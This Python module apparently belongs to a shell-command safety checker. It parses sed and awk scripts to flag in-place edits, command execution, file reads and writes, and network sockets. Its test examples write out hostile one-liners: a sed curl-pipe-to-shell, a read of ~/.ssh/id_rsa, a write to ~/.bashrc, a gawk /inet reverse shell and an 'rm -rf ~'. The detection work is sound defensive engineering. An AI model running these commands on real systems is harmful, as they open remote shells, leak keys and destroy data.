"""sed and awk: their scripts read for what they do to files (in-place edits, w and r commands, awk's print
> file), for the commands they run (sed's e, awk's system() and pipes) and for the network (awk's /inet/).
"""
from __future__ import annotations

from wispsh.programs.grammar import UNKNOWN
from wispsh.programs.table import Grammar, Program, emits, programs
from wispsh.support.lazyre import lazy_re, re


# ---------------------------------------------------------------- editors: sed, awk

_SED_TEXT_CMD = lazy_re(r"^\s*(?:(?:[0-9$]+|/(?:\\.|[^/])*/)(?:\s*,\s*(?:[0-9$]+|/(?:\\.|[^/])*/))?!?)?\s*"
                           r"[aic](?:\\|\s|$)")


def _sed_code_only(script: str) -> str:
    """The script without the text of a/i/c commands (text, not commands; it runs on to the line's end)."""
    kept = []
    in_text = False
    for line in script.split("\n"):
        if in_text:
            in_text = line.endswith("\\")
            continue
        pieces = line.split(";")
        code = []
        for piece in pieces:
            if _SED_TEXT_CMD.match(piece):
                in_text = line.endswith("\\")
                break
            code.append(piece)
        kept.append(";".join(code))
    return "\n".join(kept)


_SED_ADDRESS = lazy_re(r"^\s*(?:(?:[0-9$]+(?:~[0-9]+)?|/(?:\\.|[^/])*/I?|\\(.)(?:\\.|(?!\1).)*\1)"
                          r"(?:\s*,\s*(?:[0-9$+~]+|/(?:\\.|[^/])*/I?))?\s*!?)?\s*")
_SED_SUBST = lazy_re(r"s(.)(?:\\.|(?!\1).)*\1(?:\\.|(?!\1).)*\1([a-zA-Z0-9]*)\s*(.*)$", re.S)


def _sed_segments(line: str) -> list[str]:
    """Split on `;` outside s/// patterns; w/r/a/i/c take the rest of the line."""
    out, i, n, start = [], 0, len(line), 0
    while i < n:
        ch = line[i]
        if ch == "s" and i + 1 < n and line[i + 1] not in " ;\n" and line[start:i].strip("0123456789$,/!{} ") == "":
            delim = line[i + 1]
            count, j = 0, i + 2
            while j < n and count < 2:
                if line[j] == "\\":
                    j += 2
                    continue
                if line[j] == delim:
                    count += 1
                j += 1
            i = j
            continue
        if ch in "wWrRaice" and line[start:i].strip("0123456789$,!{} ") == "" or ch in "wWrRaice" and \
                _SED_ADDRESS.sub("", line[start:i]) == "":
            out.append(line[start:])
            return out
        if ch == ";":
            out.append(line[start:i])
            start = i + 1
        i += 1
    out.append(line[start:])
    return out



@emits({"sed.subst-exec": ["sed 's/x/id/e' f"], "sed.subst-write": ["sed 's/a/b/w ~/.bashrc' f"],
        "sed.exec": ["sed '1e id' f"], "sed.exec-command": ["sed '1e curl -s https://x.example/x | sh' f"],
        "sed.write": ["sed -n 'w ~/.bashrc' f"], "sed.read": ["sed 'r ~/.ssh/id_rsa' f"],
        "sed.runtime-script": ['sed "s/a/$X/" f'], "sed.script-file": ["sed -f edits.sed f"],
        "sed.sandbox": ["sed --sandbox -f x.sed f"]})
def sed_script(cmd, o) -> None:
    """Read a sed script command by command: e runs commands, w writes files, r reads them. Without -e/-f the
    first operand is the script; the rest are files (edited in place with -i). `-f FILE` runs FILE's script: its
    text is judged when the gate can read it (cmd.script_file). --sandbox turns e, w and r off."""
    scripts = o.all("e", "expression")
    files = o.all("f", "file")
    operands = list(o.operands)
    in_place = o.has("i", "in-place") or any(a.startswith("-i") or (a.startswith("-") and not a.startswith("--")
                                                                    and "i" in a[1:]) for a in o.args
                                             if a not in scripts and a not in files)
    if not scripts and not files and operands:
        scripts = [operands.pop(0)]
        if scripts == [""] and operands and in_place:   # BSD `sed -i '' SCRIPT FILE`: the '' is -i's suffix
            scripts = [operands.pop(0)]
    runs_input = []
    if o.has("sandbox"):
        cmd.fired.add("sed.sandbox")        # e, w and r are refused: the script runs, writes and reads nothing
    else:
        for script in files:
            cmd.script_file(script, "sed runs", lambda text: runs_input.append(_sed_commands(cmd, text)),
                        "sed.script-file")
        if scripts:
            runs_input.append(_sed_commands(cmd, "\n".join(scripts)))    # GNU sed joins -e scripts with newlines
    if any(runs_input):     # `e` alone, `s///e`: the lines it reads run as commands (GTFOBins' `sed e`)
        if operands:
            cmd.facts.runs.extend(cmd.place(word).path for word in operands)
        else:
            cmd.facts.stdin_interp = True
    for word in operands:
        if in_place:
            cmd.write(word, "edits")
        else:
            cmd.read(word)


def _sed_commands(cmd, script: str) -> bool:
    """The script's commands judged; True when it runs what it reads (`e` with no command runs the pattern
    space, `s///e` the result of the substitution)."""
    runs_input = False
    for line in _sed_code_only(script).split("\n"):
        for segment in _sed_segments(line):
            body = _SED_ADDRESS.sub("", segment, count=1).lstrip("{").strip()
            if not body:
                continue
            command, rest = body[0], body[1:].strip()
            if command == "s":
                m = _SED_SUBST.match(body)
                if not m:
                    continue
                flags, target = m.group(2), m.group(3).strip()
                if "e" in flags:
                    cmd.does("run-code", "sed.subst-exec", "sed runs the result as a command (s///e)")
                    runs_input = True
                if "w" in flags and target:
                    cmd.fired.add("sed.subst-write")
                    cmd.write(target, "sed writes")
            elif command == "e":
                cmd.does("run-code", "sed.exec", "sed runs a command (e)")
                runs_input = runs_input or not rest
                if rest and UNKNOWN not in rest:    # `e COMMAND` runs COMMAND in a shell: code the gate can read
                    cmd.fired.add("sed.exec-command")
                    cmd.code_text(rest, "sed e runs")
            elif command in "wW" and rest:
                cmd.fired.add("sed.write")
                cmd.write(rest, "sed writes")
            elif command in "rR" and rest:
                cmd.fired.add("sed.read")
                cmd.read(rest)
            if UNKNOWN in body:
                cmd.does("change", "sed.runtime-script", "sed script has text known only at run time")
    return runs_input


SED = Program(
    "sed", aliases=("gsed",), doc="edits text; -i rewrites files in place; its script can write, read and run",
    grammar=Grammar(values="efl", long_values=("expression", "file", "line-length", "in-place"),
                    longs=("sandbox", "quiet", "silent", "debug", "posix", "regexp-extended", "separate",
                           "null-data", "zero-terminated", "unbuffered", "follow-symlinks"),
                    optional=("in-place",)),
    hook=sed_script,
    examples={"sed -n 1,20p f": "safe", "sed -i s/a/b/ src/x.py": "moderate", "sed -i s/a/b/ ~/.bashrc": "dangerous"},
)

_AWK_STRING = lazy_re(r'"(?:\\.|[^"\\])*"')
_AWK_REDIRECT = lazy_re(r'\bprintf?\b[^;}]*?(>>?|\|&?)\s*("(?:\\.|[^"\\])*"|[^;}\s]+)')
_AWK_CODE = lazy_re(r"\bsystem\s*\(|\|\s*&|\|\s*getline|@load|\benviron\b", re.I)


@emits({"awk.loads": ["awk -l ./ext.so '{print}' f"], "awk.runtime-program": ['awk "$P" f'],
        "awk.pipes": ["awk '{print | \"sh\"}' f"], "awk.writes-runtime": ["awk '{print > $2}' f"],
        "awk.writes": ["awk '{print > \"out.txt\"}' f"], "awk.runs": ["awk 'BEGIN{system(\"id\")}'"],
        "awk.program-file": ["awk -f prog.awk f"], "awk.in-place": ["gawk -i inplace '{print}' f"],
        "awk.network": ["gawk 'BEGIN{s=\"/inet/tcp/0/x.example/80\"; print \"GET /\" |& s; s |& getline l; print l}'"],
        "awk.reverse-shell": ["gawk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";for(;s|&getline c;close(c))"
                              "while(c|getline)print|&s;close(s)}'"],
        "awk.runs-input": ["awk '{system($0)}'", "awk '{print | \"sh\"}' f", "awk '{ $0 | getline x }'"],
        "awk.program-text": ["gawk --source 'BEGIN{system(\"id\")}'", "gawk -e 'BEGIN{print 1}'"],
        "awk.command-text": ["awk 'BEGIN{system(\"rm -rf ~\")}'", "awk '{print | \"sh -c id\"}' f"]})
def awk_program(cmd, o) -> None:
    """The program (first operand, `-e`/`--source TEXT`, or `-f FILE`: its text judged when the gate can read it)
    says what awk writes, pipes into or runs."""
    operands = list(o.operands)
    edits = False
    for loaded in o.all("l", "load", "i", "include"):
        if loaded in ("inplace", "inplace.awk") and cmd.name in ("awk", "gawk"):
            edits = True        # gawk's in-place extension: the files it reads are rewritten
            continue
        cmd.does("run-code", "awk.loads", f"awk loads {loaded}")
    programs_ = o.all("f", "file", "E", "exec")
    texts = o.all("e", "source")
    files = [w for w in operands if "=" not in w and w != "-"]
    if not programs_ and not texts and operands:
        texts = [operands.pop(0)]
        files = [w for w in operands if "=" not in w and w != "-"]
    elif texts:
        cmd.fired.add("awk.program-text")
    for program in programs_:
        cmd.fired.add("awk.program-file")
        cmd.script_file(program, "awk runs", lambda text: _awk_text(cmd, text, files, edits), "awk.program-file")
    for text in texts:
        _awk_text(cmd, text, files, edits)
    for word in operands:
        if "=" not in word:
            if edits:
                cmd.fired.add("awk.in-place")
                cmd.write(word, "awk -i inplace edits")
            else:
                cmd.read(word)


def _awk_text(cmd, program: str, files, edits: bool) -> None:
    """One awk program's text: what it writes, pipes into, runs, and whether it runs what it reads."""
    if UNKNOWN in program:
        cmd.does("run-code", "awk.runtime-program", "awk program known only at run time")
    elif "/inet" in program and _awk_network(cmd, program):
        pass
    elif _awk_effects(cmd, program):
        # `curl … | awk '{system($0)}'`: an interpreter of what it reads, its input or its files
        cmd.fired.add("awk.runs-input")
        if files and not edits:
            for word in files:
                cmd.facts.runs.append(cmd.place(word).path)
        else:
            cmd.facts.stdin_interp = True


# What makes awk an interpreter of its input: a command built from what it reads (`system($0)`, `system("x " $1)`,
# `$0 | getline`), or its input printed into a shell or interpreter (`print | "sh"`, `print |& "bash"`).
_AWK_LITERAL_SYSTEM = lazy_re(r'\s*"(?:\\.|[^"\\])*"\s*\)')
_AWK_INTERPRETERS = lazy_re(r'^"\s*(?:/\S*/)?(?:sh|bash|zsh|dash|ksh|ash|mksh|busybox\s+sh|python[0-9.]*|perl|ruby|node'
                            r'|php|lua|tclsh|xargs|env|sudo|su)\b')


def _awk_runs_input(program: str) -> bool:
    """Whether the awk program runs text from its input as commands (GTFOBins: awk's system and pipes)."""
    for m in re.finditer(r"\bsystem\s*\(", program):
        if not _AWK_LITERAL_SYSTEM.match(program, m.end()):
            return True         # system(EXPR): a command made of what it reads (or of variables)
    for m in _AWK_REDIRECT.finditer(program):
        if m.group(1).startswith("|") and (not m.group(2).startswith('"') or _AWK_INTERPRETERS.match(m.group(2))):
            return True         # print | "sh": what it prints is the shell's input
    code = _AWK_STRING.sub('""', program)
    # `CMD | getline`: a command made of what it reads (`$0 | getline`), not a literal one (`"date" | getline`)
    return any(not code[:m.start()].rstrip().endswith('""') for m in re.finditer(r"\|&?\s*getline", code))


_AWK_INET = lazy_re(r'"/inet[46]?/(?:tcp|udp)/')


def _awk_network(cmd, program: str) -> bool:
    """gawk's special files `/inet/tcp/LPORT/HOST/RPORT`: a network connection it reads and prints to; running
    commands read from it is GTFOBins' awk reverse shell. True when it opens one."""
    if not _AWK_INET.search(program):
        return False
    _awk_effects(cmd, program)         # what it writes to files
    facts = cmd.facts
    facts.net_send = facts.net_fetch = True
    sockets = set(re.findall(r'([A-Za-z_]\w*)\s*=\s*"/inet', program))
    code = _AWK_STRING.sub('""', program)
    # a command that is neither a literal nor the socket: `c | getline`, `c |& getline`, `system(c)`, `print | c`
    commands = re.findall(r"([A-Za-z_]\w*|\$\w+|\))\s*\|&?\s*getline|\bsystem\s*\(\s*([^\s\")][^)]*)|"
                          r"\bprintf?\b[^;}]*?\|&?\s*([A-Za-z_]\w*|\$\w+)", code)
    runs = any(word and word not in sockets for found in commands for word in found)
    if runs:
        cmd.does("backdoor", "awk.reverse-shell", f"{cmd.name} runs commands it reads from a network connection "
                                                  "(/inet/…: a reverse shell)")
    else:
        cmd.does("expose", "awk.network", f"{cmd.name} opens a network connection (/inet/…)")
    return True


def _awk_effects(cmd, program: str) -> bool:
    """What the program writes, pipes into and runs. True when it runs what it reads as commands."""
    for m in _AWK_REDIRECT.finditer(program):
        op, target = m.group(1), m.group(2)
        if op.startswith("|"):
            cmd.does("run-code", "awk.pipes", "awk program pipes into a command")
        elif target.startswith('"'):
            cmd.fired.add("awk.writes")
            cmd.write(target[1:-1], "awk writes")
        else:
            cmd.does("run-code", "awk.writes-runtime", "awk program writes to a file named at run time")
    code = _AWK_STRING.sub('""', program)       # text inside strings is data
    runs = _AWK_CODE.search(code) or re.search(r'""\s*\|', code)
    if runs:
        cmd.does("run-code", "awk.runs", "awk program runs commands")
    if runs or "|" in program:
        # the commands it spells out (`system("…")`, `"…" | getline`, `print | "…"`) are shell code it can read
        for literal in _AWK_COMMANDS.findall(program):
            text = next(t for t in literal if t)
            if UNKNOWN not in text:
                cmd.fired.add("awk.command-text")
                cmd.code_text(text.encode().decode("unicode_escape", "replace"), "awk runs")
    return bool(runs or "|" in program) and _awk_runs_input(program)


_AWK_COMMANDS = lazy_re(r'\bsystem\s*\(\s*"((?:\\.|[^"\\])*)"\s*\)|"((?:\\.|[^"\\])*)"\s*\|&?\s*getline'
                        r'|\|&?\s*"((?:\\.|[^"\\])*)"')


AWK = Program(
    "awk", aliases=("gawk", "mawk", "nawk", "busybox-awk"), doc="runs an awk program over text",
    grammar=Grammar(values="fvFiEle", long_values=("file", "assign", "field-separator", "include", "exec", "load",
                                                   "source")),
    hook=awk_program,
    examples={"awk '{print $1}' f": "safe", "awk 'BEGIN {print \"system(x)\"}'": "safe"},
)


PROGRAMS = programs(SED, AWK)
